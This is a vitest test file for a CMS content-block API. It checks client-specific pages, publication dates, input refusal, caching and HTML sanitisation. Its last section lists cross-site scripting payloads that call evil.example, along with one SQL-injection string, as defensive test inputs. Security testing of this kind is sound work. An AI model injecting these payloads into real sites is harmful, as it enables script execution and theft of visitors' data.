import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { BlocContenu } from '#src/core/adherent/contenu.ts';
import { type TestApp, testApp } from '#tests/support/app.ts';
import { expectRefusal } from '#tests/support/refusal.ts';
import { visitor } from '#tests/support/visitor.ts';

let server: TestApp;
beforeAll(async () => {
  server = await testApp();
});
afterAll(() => server.close());

const ask = (query: string, host = 'localhost', headers = {}) =>
  visitor(server.app, host).get(`/api/cms/blocklists?${query}`, headers);
const blocks = async (query: string, host?: string): Promise<BlocContenu[]> =>
  (await ask(query, host)).json();

/** Writes a block as an import or a hand in the base would: nothing has cleaned it. */
async function insert(name: string, content: string, more: Readonly<Record<string, unknown>> = {}) {
  const row = {
    itemName: null,
    title: 'Essai',
    ordre: 1,
    isActif: true,
    debut: null,
    fin: null,
    code: name,
    ...more,
  };
  await server.db.query(
    `insert into bloc_cms (client_id, block_list_id, name, item_name, title, content, type, ordre, is_actif, date_debut, date_fin)
     select id, $1, $2, $3, $4, $5, 'bloc', $6, $7, $8::date, $9::date from client where code = 'horizon'`,
    [row.code, name, row.itemName, row.title, content, row.ordre, row.isActif, row.debut, row.fin],
  );
}

describe('reading blocks', () => {
  test('answers those of an item, with nothing more than the page needs', async () => {
    const [page, ...others] = await blocks('name=Pages_Statiques&itemName=mentions-legales');
    expect(others).toEqual([]);
    expect(page).toMatchObject({
      blockListId: 'PAGE_MENTIONS_LEGALES',
      name: 'Pages_Statiques',
      itemName: 'mentions-legales',
      title: 'Mentions légales',
      isSingleDisplay: false,
      type: 'page',
      cookieName: null,
    });
    expect(Object.keys(page ?? {}).sort()).toEqual(
      [
        'blockListId',
        'content',
        'cookieName',
        'id',
        'isSingleDisplay',
        'itemName',
        'name',
        'title',
        'type',
      ].sort(),
    );
  });

  test('gives each client its own words', async () => {
    const [horizon] = await blocks('name=Pages_Statiques&itemName=mentions-legales');
    const [littoral] = await blocks('name=Pages_Statiques&itemName=mentions-legales', 'deux.localhost');
    expect(horizon?.content).toContain('Mutuelle Horizon');
    expect(horizon?.content).toContain('<a href="tel:0199001234">01 99 00 12 34</a>');
    expect(littoral?.content).toContain('Prévoyance du Littoral');
    expect(littoral?.content).not.toContain('{{');
  });

  test('answers a collection in its order, and nothing for a name that nobody has', async () => {
    const footer = await blocks('name=Login_Footer');
    expect(footer.map(({ blockListId }) => blockListId)).toEqual([
      'LOGIN_FOOTER_LIENS',
      'LOGIN_FOOTER_CONTACT',
    ]);
    expect(await blocks('name=Inconnu')).toEqual([]);
    expect(await blocks('name=Pages_Statiques&itemName=inconnue')).toEqual([]);
    expect(await blocks(`name=${encodeURIComponent("x' or '1'='1")}`)).toEqual([]);
  });

  test('shows a block on its days only, and never one that is not published', async () => {
    await insert('Dates', '<p>demain</p>', { code: 'DEMAIN', debut: '2999-01-01' });
    await insert('Dates', '<p>hier</p>', { code: 'HIER', fin: '2000-01-01' });
    await insert('Dates', '<p>brouillon</p>', { code: 'BROUILLON', isActif: false });
    await insert('Dates', '<p>en cours</p>', { code: 'EN_COURS', debut: '2000-01-01', fin: '2999-01-01' });
    expect((await blocks('name=Dates')).map(({ content }) => content)).toEqual(['<p>en cours</p>']);
  });

  test.each([
    ['', 'name manque'],
    ['name=', 'name est vide'],
    [`name=${'x'.repeat(81)}`, 'name est trop long'],
    [`name=x&itemName=${'y'.repeat(81)}`, 'itemName est trop long'],
    ['name=Login_Footer&filter=1', 'un paramètre est inconnu'],
  ])('refuses «%s»', async (query) => {
    expectRefusal(await ask(query), 400);
  });

  test('answers 304 to whoever has it already, until it changes', async () => {
    await insert('Garde', '<p>avant</p>', { code: 'GARDE' });
    const first = await ask('name=Garde');
    expect(first.headers['cache-control']).toBe('no-cache');
    const headers = { 'if-none-match': String(first.headers.etag) };
    expect((await ask('name=Garde', 'localhost', headers)).statusCode).toBe(304);
    await server.db.query("update bloc_cms set content = '<p>après</p>' where block_list_id = 'GARDE'");
    await expect.poll(async () => (await ask('name=Garde', 'localhost', headers)).statusCode).toBe(200);
  });
});

/** Ways to bring a page to life, from public lists of them. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext></p><style><img src onerror=alert(1)></style>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  '<form action="https://evil.example"><input name=nir></form>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<p onclick="alert(1)" class="MuiButton-root primaire">x</p>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<p><p><p><!--><img src=x onerror=alert(1)>-->',
  '<details open ontoggle=alert(1)>x</details>',
  '<link rel=stylesheet href=//evil.example><style>@import "//evil.example"</style>',
] as const;
const ALIVE =
  /<script|<style|<svg|<math|<iframe|<object|<form|<input|<base|<meta|<link|<template|\son\w+=|style=|evil\.example|javascript:|data:/i;

describe('what a stranger wrote', () => {
  let at = 0;
  beforeEach(() => {
    at += 1;
  });

  test.each(PAYLOADS)('comes out without life: %s', async (payload) => {
    await insert(`Attaque${at}`, `<p>avant</p>${payload}<p>après</p>`, { code: `ATTAQUE_${at}` });
    const [block] = await blocks(`name=Attaque${at}`);
    expect(block?.content.replaceAll(/&lt;.*?&gt;/g, '')).not.toMatch(ALIVE);
    expect(block?.content).toContain('<p>avant</p>');
  });

  test('a client’s word is text, whatever it holds, and no way to an address', async () => {
    await insert('Mots', '<p>{{horaires}} {{inconnu}} {{__proto__}}</p><a href="{{emailDpo}}">x</a>', {
      code: 'MOTS',
    });
    await server.db.query(
      `update client set configuration = configuration || '{"horaires":"<b onclick=x>{{libelle}}</b>","emailDpo":"javascript:alert(1)"}'
       where code = 'horizon'`,
    );
    server.db.changes.announce('client');
    const [block] = await blocks('name=Mots');
    expect(block?.content).toBe('<p>&lt;b onclick=x&gt;{{libelle}}&lt;/b&gt;  </p><a>x</a>');
  });
});
